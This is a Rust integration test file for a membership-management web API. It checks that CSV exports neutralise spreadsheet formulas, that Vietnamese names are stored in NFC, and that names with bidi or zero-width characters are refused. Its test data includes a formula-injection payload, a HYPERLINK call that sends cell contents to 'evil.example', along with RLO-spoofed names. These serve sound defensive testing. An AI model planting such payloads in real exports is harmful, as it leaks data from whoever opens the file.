//! Text from users as an attacker would send it (issue #13, items 7 and 9): CSV exports
//! neutralise spreadsheet formulas, names and free text are stored in NFC, and names with
//! bidi controls or zero-width characters are refused, naming the field. On both databases.

#![allow(clippy::unwrap_used, clippy::expect_used)]

use crate::common;

use actix_web::test::{TestRequest, call_service, read_body};
use common::{assert_problem, json, post};
use serde_json::{Value, json};

fn new_member(branch: i64, card: &str, name: &str, workplace_unit: &str) -> Value {
    json!({
        "card_number": card, "full_name": name, "gender": "female", "date_of_birth": "1985-04-30",
        "branch_id": branch, "status": "official", "admitted_on": "2010-05-19",
        "official_on": "2011-05-19", "category": "civil_servant", "workplace_unit": workplace_unit,
        "phone": "+84 912 345 678",
    })
}

const HYPERLINK: &str = r#"=HYPERLINK("http://evil.example/?d="&A1, "Xem")"#;

db_test!(csv_exports_neutralise_formulas, |app, db| {
    let fx = db.fixture();
    let admin = fx.bearer("admin").unwrap();
    let branch = fx.org("Br1").id;
    let people = [
        ("77000001", HYPERLINK, "Khoa Toán"),
        ("77000002", "Lê Thị Cộng", "+cmd"),
        ("77000003", "Lê Thị A Còng", "@SUM(1)"),
        ("77000004", "Lê Thị Trừ", "-2+3"),
    ];
    for (card, name, unit) in people {
        let res = call_service(
            &app,
            post(
                &admin,
                "/api/v1/members",
                new_member(branch, card, name, unit),
            ),
        )
        .await;
        assert_eq!(res.status(), 201, "{name}");
    }
    let res = call_service(
        &app,
        TestRequest::get()
            .uri("/api/v1/members/export?format=csv&q=77000")
            .insert_header(("authorization", admin.as_str()))
            .to_request(),
    )
    .await;
    assert_eq!(res.status(), 200);
    let text = String::from_utf8(read_body(res).await.to_vec()).unwrap();
    // The formula's quotes are doubled inside a quoted cell that starts with the apostrophe.
    assert!(
        text.contains(r#""'=HYPERLINK(""http://evil.example/?d=""&A1, ""Xem"")""#),
        "{text}"
    );
    let mut reader = csv::Reader::from_reader(text.trim_start_matches('\u{feff}').as_bytes());
    let rows: Vec<Vec<String>> = reader
        .records()
        .map(|r| r.unwrap().iter().map(str::to_owned).collect())
        .collect();
    let cells: Vec<&str> = rows.iter().flatten().map(String::as_str).collect();
    for want in [
        format!("'{HYPERLINK}"),
        "'+cmd".into(),
        "'@SUM(1)".into(),
        "'-2+3".into(),
    ] {
        assert!(cells.contains(&want.as_str()), "{want} in {cells:?}");
    }
    let live: Vec<&&str> = cells
        .iter()
        .filter(|c| c.starts_with(['=', '+', '-', '@', '\t', '\r']))
        .collect();
    assert!(
        live.is_empty(),
        "cells a spreadsheet would evaluate: {live:?}"
    );
    assert!(cells.contains(&"'+84 912 345 678"));

    // The export imports back unchanged: the import takes the apostrophe off again.
    let res = call_service(
        &app,
        TestRequest::post()
            .uri("/api/v1/members/import?dry_run=true")
            .insert_header(("authorization", admin.as_str()))
            .insert_header(("content-type", "text/csv"))
            .set_payload(text)
            .to_request(),
    )
    .await;
    let report = json(res).await;
    assert_eq!(report["unchanged"], 4, "{report}");
});

/// "Nguyễn" decomposed: e, circumflex, tilde.
const NFD_NGUYEN: &str = "Nguye\u{0302}\u{0303}n";

db_test!(names_and_free_text_are_stored_in_nfc, |app, db| {
    let fx = db.fixture();
    let admin = fx.bearer("admin").unwrap();
    let branch = fx.org("Br1").id;
    let res = call_service(
        &app,
        post(
            &admin,
            "/api/v1/members",
            new_member(
                branch,
                "77000011",
                &format!("{NFD_NGUYEN} Văn An"),
                "Khoa Toa\u{0301}n",
            ),
        ),
    )
    .await;
    assert_eq!(res.status(), 201);
    let id = json(res).await["id"].as_i64().unwrap();
    let res = call_service(
        &app,
        TestRequest::get()
            .uri(&format!("/api/v1/members/{id}"))
            .insert_header(("authorization", admin.as_str()))
            .to_request(),
    )
    .await;
    let member = json(res).await;
    assert_eq!(member["full_name"], "Nguyễn Văn An");
    assert_eq!(member["workplace_unit"], "Khoa Toán");
    // And as stored: the database holds the composed form.
    let mut conn = db.pool.get().unwrap();
    let (row, _) = kiemdiem_store::members::get(&mut conn, id)
        .unwrap()
        .unwrap();
    assert_eq!(row.full_name, "Nguyễn Văn An");

    let res = call_service(
        &app,
        post(
            &admin,
            "/api/v1/organizations",
            json!({ "kind": "cell", "code": "TO-NFC", "name": format!("Tổ {NFD_NGUYEN}"), "parent_id": branch }),
        ),
    )
    .await;
    assert_eq!(res.status(), 201);
    assert_eq!(json(res).await["name"], "Tổ Nguyễn");

    let res = call_service(
        &app,
        post(
            &admin,
            "/api/v1/users",
            json!({
                "username": "nfc_user", "display_name": format!("{NFD_NGUYEN} Thị Lan"),
                "password": "0123456789ab", "roles": [],
            }),
        ),
    )
    .await;
    assert_eq!(res.status(), 201);
    assert_eq!(json(res).await["display_name"], "Nguyễn Thị Lan");
});

/// Bidi controls and zero-width characters: a name shown otherwise than it is.
const HIDDEN: [char; 14] = [
    '\u{202A}', '\u{202B}', '\u{202C}', '\u{202D}', '\u{202E}', '\u{2066}', '\u{2069}', '\u{200E}',
    '\u{200F}', '\u{061C}', '\u{200B}', '\u{200D}', '\u{FEFF}', '\u{2060}',
];

db_test!(names_with_invisible_characters_are_refused, |app, db| {
    let fx = db.fixture();
    let admin = fx.bearer("admin").unwrap();
    let branch = fx.org("Br1").id;
    let invalid = ("full_name".to_owned(), "invalid_characters".to_owned());
    for (i, c) in HIDDEN.into_iter().enumerate() {
        let name = format!("Nguyễn Văn{c} An");
        let res = call_service(
            &app,
            post(
                &admin,
                "/api/v1/members",
                new_member(branch, &format!("{}", 77_000_100 + i), &name, "Khoa"),
            ),
        )
        .await;
        assert!(
            common::invalid_fields(res).await.contains(&invalid),
            "U+{:04X}",
            c as u32
        );
    }
    // A change, and a row of an import, are held to the same rule.
    let member = fx.members[&("admin", "own")].0;
    let res = call_service(
        &app,
        TestRequest::patch()
            .uri(&format!("/api/v1/members/{member}"))
            .insert_header(("authorization", admin.as_str()))
            .insert_header(("if-match", "*"))
            .set_json(json!({ "full_name": "\u{202E}nA năV nễyugN" }))
            .to_request(),
    )
    .await;
    assert_eq!(common::invalid_fields(res).await, vec![invalid.clone()]);
    let csv = "Số thẻ đảng viên,Họ và tên,Giới tính,Ngày sinh,Loại đảng viên,Ngày vào Đảng,Ngày chính thức,Đối tượng\n\
               77000200,Trần Thị\u{200B} Nhập,Nữ,01/02/1985,Chính thức,03/02/2010,03/02/2011,CBCCVC\n";
    let res = call_service(
        &app,
        TestRequest::post()
            .uri(&format!("/api/v1/members/import?branch_id={branch}"))
            .insert_header(("authorization", admin.as_str()))
            .insert_header(("content-type", "text/csv"))
            .set_payload(csv)
            .to_request(),
    )
    .await;
    let body = assert_problem(res, 422, "import_invalid").await;
    let rows = body["rows"].as_array().unwrap();
    assert!(
        rows.iter().any(
            |r| r["column"] == "Họ và tên" && r["message"].as_str().unwrap().contains("U+200B")
        ),
        "{body}"
    );

    // Organisations and service accounts: their names.
    let rename = TestRequest::patch()
        .uri(&format!("/api/v1/organizations/{}", fx.org("C1").id))
        .insert_header(("authorization", admin.as_str()))
        .set_json(json!({ "name": "Tổ \u{2066}1\u{2069}" }))
        .to_request();
    for req in [
        post(
            &admin,
            "/api/v1/organizations",
            json!({ "kind": "cell", "code": "TO-ZW", "name": "Tổ\u{FEFF} 1", "parent_id": branch }),
        ),
        rename,
        post(
            &admin,
            "/api/v1/service-accounts",
            json!({ "name": "Hệ thống\u{200F} Tỉnh ủy", "organization_id": fx.org("D1").id }),
        ),
    ] {
        assert_eq!(
            common::invalid_fields(call_service(&app, req).await).await,
            vec![("name".to_owned(), "invalid_characters".to_owned())]
        );
    }
    // Users' display names too.
    let res = call_service(
        &app,
        post(
            &admin,
            "/api/v1/users",
            json!({ "username": "an_rlo", "display_name": "\u{202E}nA năV", "password": "0123456789ab" }),
        ),
    )
    .await;
    assert_eq!(
        common::invalid_fields(res).await,
        vec![("display_name".to_owned(), "invalid_characters".to_owned())]
    );
});
